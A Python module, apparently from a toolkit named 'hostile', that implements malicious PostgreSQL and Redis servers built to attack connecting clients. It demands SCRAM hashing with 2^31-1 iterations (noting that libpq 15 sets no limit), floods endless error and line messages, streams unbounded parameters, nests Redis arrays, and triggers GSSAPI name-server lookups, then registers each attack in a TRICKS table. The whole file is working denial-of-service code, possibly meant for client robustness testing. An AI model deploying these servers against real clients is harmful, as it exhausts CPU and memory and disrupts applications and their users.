"""PostgreSQL and Redis."""

from __future__ import annotations

import itertools
import socket
import struct

from hostile.trick import Tls, Trick, flood

# ---- PostgreSQL ---------------------------------------------------------------------------------


def message(kind: bytes, payload: bytes) -> bytes:
    return kind + struct.pack(">I", len(payload) + 4) + payload


def authentication(code: int, rest: bytes = b"") -> bytes:
    return message(b"R", struct.pack(">I", code) + rest)


def scram(connection: socket.socket, rounds: int) -> None:
    """Requests a hash that takes the client hours."""
    connection.recv(4096)
    connection.sendall(authentication(10, b"SCRAM-SHA-256\0\0"))
    nonce = connection.recv(4096).split(b"r=")[1]
    challenge = b"r=" + nonce + b"server,s=c2FsdA==,i=" + str(rounds).encode()
    connection.sendall(authentication(11, challenge))
    connection.recv(4096)


def scram_in_the_clear(connection: socket.socket, _: Tls) -> None:
    scram(connection, 2**31 - 1)


def scram_under_tls(connection: socket.socket, tls: Tls) -> None:
    connection.recv(8)
    connection.sendall(b"S")
    with tls.context.wrap_socket(connection, server_side=True) as secure:
        scram(secure, 2**31 - 1)


def gssapi_under_tls(connection: socket.socket, tls: Tls) -> None:
    """libpq asks the system's name servers for the host name of the server."""
    connection.recv(8)
    connection.sendall(b"S")
    with tls.context.wrap_socket(connection, server_side=True) as secure:
        secure.recv(4096)
        secure.sendall(authentication(7))
        secure.recv(4096)


def password_requests(connection: socket.socket, _: Tls) -> None:
    flood(connection, b"", authentication(5, b"salt"))


def error_without_end(connection: socket.socket, _: Tls) -> None:
    flood(connection, b"E", b"x")


def parameters(connection: socket.socket, _: Tls) -> None:
    """Sends parameters with different names. The client searches all previous ones for each."""
    connection.recv(4096)
    connection.sendall(authentication(0))
    for number in itertools.count():
        connection.sendall(message(b"S", f"p{number}\0x\0".encode()))


# ---- Redis --------------------------------------------------------------------------------------


def line_without_end(connection: socket.socket, _: Tls) -> None:
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    flood(connection, b"+", b"x")


def array_of_arrays(connection: socket.socket, _: Tls) -> None:
    flood(connection, b"", b"*1\r\n")


# Over verified TLS nothing can see the request before libpq does. libpq 15 has no limit of iterations.
COMPUTES = Trick("postgres", scram_under_tls, "postgresql", "app?sslmode=verify-full")

PLAIN, SECURE = "app?sslmode=disable", "app?sslmode=require"

ASKS_FOR_KERBEROS = Trick("postgres", gssapi_under_tls, "postgresql", SECURE)

TRICKS = {
    "pg-scram": Trick("postgres", scram_in_the_clear, "postgresql", PLAIN),
    "pg-scram-tls": Trick("postgres", scram_under_tls, "postgresql", SECURE),
    "pg-gssapi-tls": ASKS_FOR_KERBEROS,
    "pg-passwords": Trick("postgres", password_requests, "postgresql", PLAIN),
    "pg-error": Trick("postgres", error_without_end, "postgresql", PLAIN),
    "pg-parameters": Trick("postgres", parameters, "postgresql", PLAIN),
    "redis-line": Trick("redis", line_without_end, "redis"),
    "redis-arrays": Trick("redis", array_of_arrays, "redis"),
}
